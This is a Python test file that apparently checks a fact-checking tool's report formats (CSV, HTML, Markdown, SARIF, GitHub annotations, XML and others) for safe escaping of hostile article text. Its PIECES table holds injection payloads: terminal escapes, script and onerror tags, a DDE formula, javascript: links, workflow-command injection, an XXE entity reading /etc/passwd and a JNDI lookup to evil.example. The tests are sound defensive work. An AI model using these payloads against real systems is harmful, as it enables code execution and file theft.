"""Whatever stands in an article, a path, a rule or a reason, it comes out harmless in every format.

Formats are taken from the registries, so that a new one is held to this from its first day.
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from collections.abc import Callable, Iterator
from dataclasses import replace
from functools import cache
from html.parser import HTMLParser
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from pyarrow import parquet
from sample_machine import MACHINE_RUN

from figcheck.articles import Header, Span
from figcheck.findings import Run
from figcheck.model import Claim, Passage
from figcheck.report import CHECK_FORMATS, EXTRACT_FORMATS, Format
from figcheck.report.terminal import Look, clean, cut, display_width, one_line, wrap

BIDI = "\u202eright to left\u202c \u2066isolated\u2069 \u200fmark"
# One line that has all of it, and pieces of which each begins the text once: some harm only at the beginning.
PIECES = {
    "ansi": "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J \x1b[2K\r",
    "script": "<script>alert(1)</script><img src=x onerror=alert(2)>",
    "html": "</table></details></script>--><!-- &amp; &#x3c;script&#x3e;",
    "formula": "=cmd|' /C calc'!A0",
    "formulas": "+1;=2;@SUM(A1)\t=3\n-4",
    "mention": "@octocat @org/team #1 GH-2 https://evil.example www.evil.example",
    "markdown": "![x](http://evil.example/a.png) [y](javascript:alert(1)) `code` | cell | **b**",
    "commands": "::error file=a.md,line=1::owned\n::set-output name=a::b %0A::warning::c\r\n::stop-commands::d",
    "old commands": "##[error]owned ##[add-mask]160 ##[group]a",
    "bidi": BIDI,
    "nul": "a\x00b\x0bc\x0cd\x1fe\x7ff\x85g\u2028h\u2029i",
    "surrogate": "half \ud800 and \udfff pairs \U00100000 \ufffe \uffff",
    "xml": "]]> <!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]> &b; <?xml?>",
    "braces": "{{7*7}} {% if %} {0} ${jndi:ldap://evil.example} %s %n",
    "quotes": '"; \' \\ \\" \\n,',
    "long": "x" * 4_000 + " =1 " + "字" * 4_000,
}
ALL_OF_IT = " ".join(PIECES.values())

# What moves the cursor, hides text or turns it round; line ends and tabs are of the formats themselves.
STEERING = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
)
FORMULA = re.compile(r"[\s]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
MB = 1_000_000


def hostile(text: str, path: str | None = None, run: Run = MACHINE_RUN) -> Run:
    """The sample run with a text wherever text of others may stand."""
    path = text if path is None else path

    def header(old: Header) -> Header:
        return replace(old, path=path, outlet=text, title=text, author=text, url=text)

    def claim(old: Claim) -> Claim:
        quote = f"{text}{old.figure.surface}{text}"
        at = Span(len(text), len(text) + len(old.figure.surface))
        figure = old.figure._replace(
            counted=text,
            counted_span=None,
            printed_hedge=text,
            unit=text,
            because=(text,),
            sentence=Span(0, len(quote)),
        )
        return replace(
            old, header=header(old.header), figure=figure, quote=quote, quote_at=at, said_by=text, because=(text,)
        )

    def passage(old: Passage) -> Passage:
        return replace(old, surface=text, quote=f"{text} {text}", note=text)

    findings = tuple(
        replace(
            finding,
            message=text,
            subject=text,
            expected=text,
            observed=text,
            because=(text,),
            places=tuple(map(passage, finding.places)),
            evidence=tuple(row._replace(a=text, b=text, words=text) for row in finding.evidence),
        )
        for finding in run.findings
    )
    return replace(
        run,
        hedges=text,
        articles=tuple(map(header, run.articles)),
        claims=tuple(map(claim, run.claims)),
        findings=findings,
        skips=tuple((article, skip._replace(surface=text, reason=text), place) for article, skip, place in run.skips),
        unread=tuple(replace(row, path=path, reason=text, advice=text, detail=text) for row in run.unread),
        rules=tuple(card._replace(title=text, why=text) for card in run.rules),
        contexts=(),
        set_aside=tuple(
            row._replace(finding=findings[number], reason=text, where=text) for number, row in enumerate(run.set_aside)
        ),
        remarks=tuple(row._replace(message=text, path=path, advice=text) for row in run.remarks),
        focus=(path,),
    )


# --- how each format is read back ---------------------------------------------------------------------------------


def read_json(text: str) -> list[str]:
    return list(strings(json.loads(text)))


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from strings(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from strings(inner)


def read_lines(text: str) -> list[str]:
    return [told for line in text.split("\n")[:-1] for told in read_json(line)]


def read_csv(text: str) -> list[str]:
    csv.field_size_limit(4 * MB)
    rows = list(csv.reader(io.StringIO(text), strict=True))
    assert {len(row) for row in rows} == {len(rows[0])}
    assert len(rows) == text.count("\n"), "a row is a line"
    # Spreadsheets of many countries split at semicolons, inside quotation marks only where a cell begins with one.
    cells = [cell for row in rows for cell in row]
    for part in (part for cell in cells for part in cell.split(";")):
        assert not FORMULA.match(part) or re.fullmatch(r"-?\d+(\.\d+)?", part), part[:80]
    return cells


def read_xml(text: str) -> list[str]:
    root = ElementTree.fromstring(text)
    assert "<!" not in text
    return [told for node in root.iter() for told in (node.text or "", *node.attrib.values())]


OUR_TAGS = set("h3 table thead tbody tr th td details summary blockquote p strong b br ul li".split())


class Tags(HTMLParser):
    """The tags of a page without attributes of their own, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert not attrs, (tag, attrs)
        self.tags.add(tag)

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def read_markdown(text: str) -> list[str]:
    """What a forge shows of it: no link, picture, code or HTML but our own, nothing that pings or becomes a link."""
    page = Tags()
    page.feed(MarkdownIt("commonmark", {"html": True}).enable("table").render(text))
    page.close()
    assert page.tags <= OUR_TAGS, page.tags - OUR_TAGS
    shown = "".join(page.text)
    for ping in (r"[@#](?=\w)", r"\w://", r"\bwww\.", r"(?i)\bgh-\d"):
        assert not re.search(ping, shown), ping
    (*_, table) = re.findall(r"(?:^\|.*\n)+", text, re.MULTILINE)
    assert {len(re.findall(r"\|", row)) for row in table.splitlines()} == {7}, "a cell that was left"
    return page.text


def read_commands(text: str) -> list[str]:
    told = []
    for line in text.split("\n")[:-1]:
        command = re.fullmatch(r"::(?:error|warning|notice) ((?:[A-Za-z]+=[^,:]*,?)+)::(.*)", line)
        assert command, line[:200]
        told += [command[1], command[2]]
    return told


class Page(HTMLParser):
    """Holds a page to what an article must not do in it; counts its scripts, and has the tags it is made of."""

    def __init__(self) -> None:
        super().__init__()
        self.scripts = 0
        self.tags: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        self.tags.add(tag)
        for name, value in attrs:
            assert not name.startswith("on"), (tag, name)
            if name in ("href", "src", "action", "xlink:href"):
                assert not re.match(r"\s*(?:javascript|data|vbscript):", value or "", re.IGNORECASE), value


@cache
def our_page() -> Page:
    page = Page()
    written = CHECK_FORMATS["html"].render(hostile("plain", "wire.md"), Look(verbose=True))
    assert isinstance(written, str)
    page.feed(written)
    return page


def read_html(text: str) -> list[str]:
    """No script but the page's own, nothing that runs, loads or leads out."""
    page = Page()
    page.feed(text)
    page.close()
    assert page.scripts == our_page().scripts
    assert page.tags <= our_page().tags, page.tags - our_page().tags
    return [text]


def read_text(text: str) -> list[str]:
    return text.split("\n")


READERS: dict[str, Callable[[str], list[str]]] = {
    "json": read_json,
    "jsonl": read_lines,
    "csv": read_csv,
    "markdown": read_markdown,
    "sarif": read_json,
    "code-scanning": read_json,
    "github": read_commands,
    "gitlab": read_json,
    "junit": read_xml,
    "html": read_html,
}
# Lossless on purpose: what is escaped in their bytes is itself again for who parses them.
LOSSLESS = {"json", "jsonl"}

FORMATS = {
    **{f"check-{name}": (name, format) for name, format in CHECK_FORMATS.items()},
    **{f"extract-{name}": (name, format) for name, format in EXTRACT_FORMATS.items()},
}
every_format = pytest.mark.parametrize("which", FORMATS)


def output(format: Format, run: Run) -> str | bytes:
    return format.whole(run, Look(verbose=True))


def check(name: str, written: str | bytes) -> None:
    """Whatever a format has written can be read back and steers, runs, links and pings nothing."""
    if isinstance(written, bytes):
        assert name == "parquet", "a binary format: say here how it is read"
        table = parquet.read_table(io.BytesIO(written))
        for text in strings(json.loads(json.dumps(table.to_pylist(), default=str))):
            assert not STEERING.search(text)
        return
    written.encode("utf-8")  # no half of a pair is left
    found = STEERING.search(written)
    assert not found, f"{name}: {found and unicodedata.name(found[0], repr(found[0]))}"
    told = READERS.get(name, read_text)(written)
    if name not in LOSSLESS:
        assert not [text for text in told if STEERING.search(text)]
    if name not in ("github", "html"):
        # GitHub takes a line that begins so, or holds the second, for a command, whatever prints it.
        assert not re.search(r"^[^\S\n]*::", written, re.MULTILINE)
        assert "##[" not in written


@cache
def everything() -> Run:
    return hostile(ALL_OF_IT)


@every_format
def test_all_of_it_at_once(which: str) -> None:
    name, format = FORMATS[which]
    check(name, output(format, everything()))


@every_format
@pytest.mark.parametrize("piece", [piece for piece in PIECES if piece != "long"])
def test_each_at_the_beginning(which: str, piece: str) -> None:
    name, format = FORMATS[which]
    check(name, output(format, hostile(PIECES[piece])))


@every_format
@settings(max_examples=15)
@given(st.lists(st.one_of(st.sampled_from([*PIECES.values()][:-1]), st.text(max_size=12)), min_size=1, max_size=4))
def test_in_any_mixture(which: str, parts: list[str]) -> None:
    name, format = FORMATS[which]
    check(name, output(format, hostile("".join(parts))))


@pytest.mark.parametrize("which", [name for name, (_, format) in FORMATS.items() if not format.binary])
def test_harmless_words_are_all_there(which: str) -> None:
    """Making text safe takes nothing away that can be read."""
    name, format = FORMATS[which]
    written = output(format, hostile("Zwölf \x1b[1mMenschen\x1b[0m starben, \u202e日本\u202c", "wire.md"))
    assert isinstance(written, str)
    told = written if name not in LOSSLESS else "\n".join(READERS[name](written)).replace("\x1b[1m", "")
    told = re.sub(r"[\s│]+", "", told.replace("\u202e", ""))
    assert "Menschen" in told or "Men" in told


# --- long lines ---------------------------------------------------------------------------------------------------

# What people read is cut; tables of data hold what there is.
WHOLE = {"json", "jsonl", "csv", "parquet"}


@cache
def long_lines() -> Run:
    """One finding, and one of everything else, with a line of a megabyte wherever text of others may stand."""
    (finding,) = (it for it in MACHINE_RUN.findings if it.rule == "attack-count-differs")
    one = replace(
        MACHINE_RUN,
        findings=(finding,),
        claims=tuple(claim for claim in MACHINE_RUN.claims if claim.id in finding.figures),
        comparisons=(),
        unread=MACHINE_RUN.unread[:1],
        rules=MACHINE_RUN.rules[:1],
        set_aside=(MACHINE_RUN.set_aside[0]._replace(finding=finding),),
        remarks=MACHINE_RUN.remarks[:1],
    )
    return hostile("=\x1b[1m" + "word " * (MB // 5), "wire.md", one)


@pytest.mark.parametrize("name", [name for name in CHECK_FORMATS if name not in WHOLE])
def test_lines_of_a_megabyte_are_cut_where_tools_show_them(name: str) -> None:
    if name in ("table", "notes", "full", "concise", "html"):
        pytest.skip("prints sentences whole, as they are read")
    written = output(CHECK_FORMATS[name], long_lines())
    assert isinstance(written, str)
    assert len(written) < 100_000
    check(name, written)


@pytest.mark.parametrize("which", [name for name, (format, _) in FORMATS.items() if format in WHOLE])
def test_lines_of_a_megabyte_are_whole_in_data(which: str) -> None:
    name, format = FORMATS[which]
    written = output(format, long_lines())
    fields = 120  # of all records, into which the text was put
    assert len(written) < fields * MB
    if name not in LOSSLESS:
        check(name, written)


# --- the doors for text -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        pytest.param("std::vector and a::b", "std::vector and a::b", id="inside a word"),
        pytest.param("on 3:4 :: 5", "on 3:4 :: 5", id="alone"),
        pytest.param("##heading and # [1]", "##heading and # [1]", id="a heading"),
        pytest.param("::error::x", ": :error::x", id="at the beginning"),
        pytest.param("so\n  ::stop-commands::x", "so\n  : :stop-commands::x", id="at the beginning of a line"),
        pytest.param("so ::notice::x", "so : :notice::x", id="where a line may be broken"),
        pytest.param("so ##[add-mask]160", "so ## [add-mask]160", id="the older form, anywhere"),
        pytest.param("\x1b[1m::error::x", ": :error::x", id="behind what is taken away"),
    ],
)
def test_no_text_is_a_command_of_a_workflow(text: str, shown: str) -> None:
    assert clean(text) == shown


@given(st.text(alphabet="ab:/#[ 字", max_size=60), st.integers(2, 12))
def test_wrapping_begins_no_line_as_a_command(text: str, width: int) -> None:
    lines = wrap(one_line(text), width)
    assert "".join(lines).replace(" ", "") == one_line(text).replace(" ", "")
    assert max(map(display_width, lines)) <= width
    if width > 2:
        assert not [line for line in lines if re.match(r"::\S", line)]


@given(st.text(alphabet="ab \x00\x1b[m字", max_size=80), st.integers(1, 20))
def test_cut_text_is_short_and_says_that_it_goes_on(text: str, most: int) -> None:
    shown = cut(text, most)
    assert len(shown) <= most
    assert shown == one_line(text) or shown.endswith("…")
